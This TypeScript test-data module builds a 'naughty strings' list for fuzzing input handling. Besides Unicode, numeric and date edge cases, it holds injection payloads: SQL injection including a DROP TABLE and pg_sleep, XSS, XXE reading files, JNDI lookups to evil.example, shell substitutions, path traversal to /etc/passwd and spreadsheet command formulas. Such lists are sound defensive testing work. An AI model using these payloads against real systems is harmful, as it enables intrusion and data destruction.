/** Strings that programs trip over: what people paste, what attackers try, what Unicode allows. */

/** Two spaces stand between two strings. */
const written = String.raw`
  '  ''  "  \  \\  /  //  %  %%  _  %_%  \%  \_  %00  %0d%0a  %2e%2e%2f  ..  ../../etc/passwd
  ..\..\windows  C:\nul  CON  /dev/null  file:///etc/passwd  \\host\share  ~root  -rf  --help
  ' or '1'='1  ' or 1=1 --  '; drop table service.vehicle; --  1; select pg_sleep(9)  ') or true--
  $1  $$  $tag$x$tag$  \'; --  E'\x00'  U&'\0061'  ::regclass  '||'a  */ or /*  ;--  @@version
  <script>alert(1)</script>  <img src=x onerror=alert(1)>  "><svg/onload=alert(1)>  </textarea>
  <!--  -->  <![CDATA[x]]>  &lt;b&gt;  &#0;  &#x41;  javascript:alert(1)  data:text/html,x  <b>x</b>
  <?php echo 1 ?>  <!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>  &b;  <a href="//evil.example">
  \u0000  \x00  \0  \n  \r\n  \t  %s%s%s%n  %d  %x  {0}  {}  {{7*7}}  \${7*7}  #{7*7}  <%= 7*7 %>
  \${jndi:ldap://evil.example/a}  @{x}  {{constructor.constructor('return 1')()}}  [[x]]  *{x}
  ; ls  | id  & whoami  && true  || true  \`id\`  $(id)  > /tmp/x  < /dev/zero  !!  $HOME  \${HOME}  *
  =1+1  +1+1  -1+1  @SUM(A1)  =cmd|'/c calc'!A1  =HYPERLINK("http://evil.example")  \t=1  ;=1  ,,,
  null  NULL  undefined  nil  None  true  false  NaN  Infinity  -Infinity  0  -0  1  -1  1e309  0x10
  1.0  00  01  1,5  1_000  9007199254740993  99999999999999999999  2147483648  -2147483649  1/0  1e
  __proto__  constructor  prototype  toString  valueOf  hasOwnProperty  then  length  __defineGetter__
  {"a":1}  [1]  "a"  {  }  [  ]  {"$gt":""}  $where  (objectClass=*)  )(cn=*  ' or name()='x  //*
  (a+)+$  ^(?:.*)*$  [[:alpha:]]  \p{L}  .*  ?  (  )  [a  +  ^$  a{1,99999}  (?=x)  \1  \Z
  X-A: b  Set-Cookie: a=b  HTTP/1.1 200 OK  Bearer x  svc_live_x  Content-Length: 0  Host: x  ?a=b&c#d
  2026-02-30  0000-00-00  9999-99-99  24:61:61  -infinity  now  epoch  today  01/02/03  2026-W53-7
  ﷽  ﬁ  ß  ẞ  İ  ı  ŉ  ǅ  ΐ  Σς  ĳ  K  Å  ſ  ½  ①  ²  Ⅷ  ℡  ㍿  ١٢٣  १२३  １２３  一二三  Ａ  ａ
  São João  Ônibus nº 7  ÇÃÕÁÉ  Ünïcödé  naïve  Łódź  Ærøå  Ελλάδα  Кириллица  עברית  العربية  ไทย
  中文  日本語  한국어  हिन्दी  தமிழ்  ខ្មែរ  ᚠᛇᚻ  𝔘𝔫𝔦  𝟘𝟙  𠜎𠜱  𓀀  ☃  ♥  ❤️  ©  ™  €  ₿  ¿¡  «»  „“  –—  …
  😀  👍🏽  👨‍👩‍👧‍👦  🏳️‍🌈  🇧🇷  🇧  👩🏿‍🚒  🤷🏽‍♀️  1️⃣  🧑‍🦰  🫠  ✊🏾✊🏻  ʇxǝʇ  Z͑ͫ̓ͪ̂ͫ  ̴̵̶  a̐éö̲  (ﾉಥ益ಥ)ﾉ  ¯\_(ツ)_/¯
`

/** Controls, spaces, joiners, marks of direction, and what Unicode keeps for no character. */
const CODES = `
  7f 80 85 9b a0 ad 34f 61c 1160 1680 180e 2000 2003 200b 200c 200d 200e 200f 2028 2029
  202a 202d 202e 202f 205f 2060 2061 2066 2068 2069 206a 3000 3164 e000 fdd0 fe0e fe0f feff
  ffa0 fff9 fffc fffd fffe ffff 1d173 e0001 e0020 e007f e0100 f0000 10ffff
`

/** Each of these between two letters, and by itself. */
const CHARACTERS = [
  ...Array.from({ length: 0x20 }, (_, code) => code),
  ...CODES.split(/\s+/)
    .filter(Boolean)
    .map((code) => Number.parseInt(code, 16)),
].map((code) => String.fromCodePoint(code))

/** Halves of surrogate pairs: JavaScript has them, UTF-8 does not. */
export const HALVES = ['\ud800', '\udbff', '\udc00', '\udfff', 'a\ud83d', '\ude00b', '\ude00\ud83d']

const LONG = [63, 64, 65, 119, 120, 121, 1_000, 10_000]

export const NAUGHTY: readonly string[] = [
  ...new Set([
    ...written.split(/ {2,}|\n/).filter(Boolean),
    ...CHARACTERS.flatMap((each) => [each, `a${each}b`]),
    ...HALVES,
    ...LONG.flatMap((length) => ['x'.repeat(length), 'ã'.repeat(length), '😀'.repeat(length)]),
    `e${'\u0301'.repeat(119)}`,
    `e${'\u0301'.repeat(5_000)}`,
    '%'.repeat(64),
    '_'.repeat(64),
    '\\'.repeat(63),
    '(a|'.repeat(20),
    '',
    ' ',
    ' a ',
    'a  b',
    'a\r\nb',
    '\u00a0a\u00a0',
    '\u202eabc',
    'abc\u202e',
    'å',
    'a\u030a',
  ]),
]
